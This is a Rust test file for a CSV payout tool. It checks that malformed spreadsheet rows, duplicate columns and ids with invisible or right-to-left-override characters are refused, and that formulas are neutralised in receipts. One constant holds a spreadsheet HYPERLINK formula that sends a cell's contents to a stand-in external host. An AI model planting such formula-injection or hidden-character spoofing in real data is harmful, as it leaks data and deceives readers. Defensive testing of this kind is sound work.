//! Case 01: a file from a spreadsheet. Numbers and text are refused, not guessed at.

use payout_engine::rows::unguarded;

use crate::scene::csv;
use crate::world::{World, address};

const FORMULA: &str = "=HYPERLINK(\"http://x.example/?\"&A1)";

#[test]
fn a_file_with_semicolons_is_refused_as_a_whole() {
    let world = World::paying();
    let row = |who: &str, rest: &str| format!("{};{rest}\r\n", address(who));
    let euro = "\u{feff}walletAddress;id;amount;paymentID\r\n".to_owned()
        + &row("cases.R1", "e1;800,00;P-1")
        + &row("cases.R2", "e2;1.000;P-2")
        + &row("cases.R3", "e3;12;P-3");
    world.file("euro.csv", &euro);
    world.open(&["cases.R1", "cases.R2", "cases.R3"]);
    let checked = world.run(&["pay", "--check", "euro.csv", "--output", "csv"]);
    let paid = world.pay("euro.csv", "euro", &[]);
    for ran in [checked, paid] {
        assert_eq!(ran.code, Some(4), "{}", ran.talk);
        assert!(ran.talk.contains("separated by semicolons"), "{}", ran.talk);
        assert_eq!(ran.data, "");
    }
    world.proven(&["cases.R1", "cases.R2", "cases.R3"], "0");
    // A byte order mark and Windows' line ends by themselves are no reason to refuse anything.
    let plain = euro.replace("800,00", "8").replace(';', ",");
    world.file("comma.csv", plain);
    world.pays(0, "comma.csv", "euro", &[]);
    world.proven(&["cases.R1", "cases.R2", "cases.R3"], "21");
}

fn cells() -> String {
    let mut split = address("cases.R2");
    split.insert(20, '\u{200b}');
    let mut lines = vec!["walletAddress,id,amount,paymentID\n".to_owned()];
    for (wallet, rest) in [
        (
            format!("\u{a0}{}\u{a0}", address("cases.R1")),
            "c1,5,P-1".to_owned(),
        ),
        (split, "c2,5,P-2".to_owned()),
        (address("cases.R3"), "c3,\u{ff11}\u{ff10},P-3".to_owned()),
        (address("cases.R4"), "\u{e9}1,5,P-4".to_owned()),
        (address("cases.R5"), "e\u{301}1,5,P-5".to_owned()),
        (
            address("cases.R6"),
            format!("\"{}\",5,P-6", FORMULA.replace('"', "\"\"")),
        ),
        (address("cases.R7"), "c7,5.00000000,P-7".to_owned()),
        (address("cases.R8"), "c8,+5,P-8".to_owned()),
    ] {
        lines.push(format!("{wallet},{rest}\n"));
    }
    lines.push("Total,,800,\n".to_owned());
    lines.concat()
}

#[test]
fn cells_are_taken_as_they_are_or_refused_with_one_reason() {
    let world = World::paying();
    let people: Vec<String> = (1..=8).map(|number| format!("cases.R{number}")).collect();
    let people: Vec<&str> = people.iter().map(String::as_str).collect();
    world.open(&people);
    world.file("cells.csv", cells());
    let ran = world.run(&["pay", "--check", "cells.csv", "--output", "csv"]);
    assert_eq!(ran.code, Some(3), "{}", ran.talk);
    let formula = format!("\"'{}\"", FORMULA.replace('"', "\"\""));
    let expected = [
        "row,id,verdict,reason",
        "2,c1,reject,address_invalid",
        "3,c2,reject,address_invalid",
        "4,c3,reject,amount_not_decimal",
        "5,\u{e9}1,reject,id_duplicate",
        // Ids are compared, and shown, in one form.
        "6,\u{e9}1,reject,id_duplicate",
        &format!("7,{formula},pay,"),
        "8,c7,pay,",
        "9,c8,reject,amount_not_decimal",
        "10,,reject,id_missing",
        "",
    ];
    assert_eq!(ran.data, expected.join("\n"));

    world.pays(3, "cells.csv", "cells", &[]);
    for (name, units) in people.iter().zip([0, 0, 0, 0, 0, 5, 5, 0]) {
        assert_eq!(world.balance(name), units * 10_000_000, "{name}");
    }
    world.proven(&people, "10");

    // Receipts are text to a spreadsheet, and the id again to whoever reads them back.
    let path = world.folder.path().join("payout-cells/receipts.csv");
    let mut reader = csv::Reader::from_path(path).unwrap();
    let receipts: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let of_r6 = &receipts[5];
    assert_eq!(&of_r6[1], format!("'{FORMULA}"));
    assert_eq!(unguarded(&of_r6[1]), FORMULA);
    assert_eq!((&of_r6[2], &of_r6[4]), ("paid", "5"));
    let ids: Vec<&str> = receipts.iter().map(|row| &row[1]).collect();
    assert_eq!(ids[0], "c1");
    assert_eq!(&receipts[0][13], "address_invalid");
    let json = world.receipts("cells.csv", "cells", &[]);
    assert_eq!(json["rows"][5]["id"], FORMULA);
}

#[test]
fn two_columns_of_one_name_are_refused() {
    let world = World::start();
    let text = csv(&[("cases.R1", "a", "5,6")]).replace("amount", "amount,amount");
    world.file("two.csv", text);
    let ran = world.run(&["pay", "--check", "two.csv", "--output", "csv"]);
    assert_eq!(ran.code, Some(4), "{}", ran.talk);
    assert!(
        ran.talk.contains("\"amount\"") && ran.talk.contains("more than once"),
        "{}",
        ran.talk
    );
    assert_eq!(ran.data, "");
}

/// Ids that look like one and are two: only the one without a hidden character is paid.
#[test]
fn an_id_with_a_character_that_nobody_sees_is_refused_and_the_character_named() {
    let world = World::paying();
    let people = ["cases.R1", "cases.R2", "cases.R3", "cases.R4", "cases.R5"];
    world.open(&people);
    let ids = ["x", "x\u{200b}", "x\u{a0}", "\u{202e}x", "x\u{ad}y"];
    let rows: Vec<_> = people
        .iter()
        .zip(ids)
        .map(|(who, id)| (*who, id, "5"))
        .collect();
    world.file("unseen.csv", csv(&rows));
    let ran = world.run(&["pay", "--check", "unseen.csv", "--output", "csv"]);
    assert_eq!(ran.code, Some(3), "{}", ran.talk);
    let expected = [
        "row,id,verdict,reason",
        "2,x,pay,",
        "3,x\u{200b},reject,id_unseen: U+200B",
        "4,x\u{a0},reject,id_unseen: U+00A0",
        "5,\u{202e}x,reject,id_unseen: U+202E",
        "6,x\u{ad}y,reject,id_unseen: U+00AD",
        "",
    ];
    assert_eq!(ran.data, expected.join("\n"));
    // To people they are shown as something.
    let ran = world.run(&["pay", "--check", "unseen.csv"]);
    assert!(
        ran.data.contains("x\u{fffd}y") && !ran.data.contains('\u{202e}'),
        "{}",
        ran.data
    );
    let talk = world.pays(3, "unseen.csv", "unseen", &[]);
    assert!(
        talk.contains("id_unseen: U+202E") && !talk.contains('\u{202e}'),
        "{talk}"
    );
    world.proven(&people, "5");
    assert_eq!(world.balance("cases.R1"), 50_000_000);
    // Nor is one let in by name.
    let talk = world.pays(1, "unseen.csv", "unseen", &["--also", "x\u{200b}"]);
    assert!(talk.contains("U+200B"), "{talk}");
}
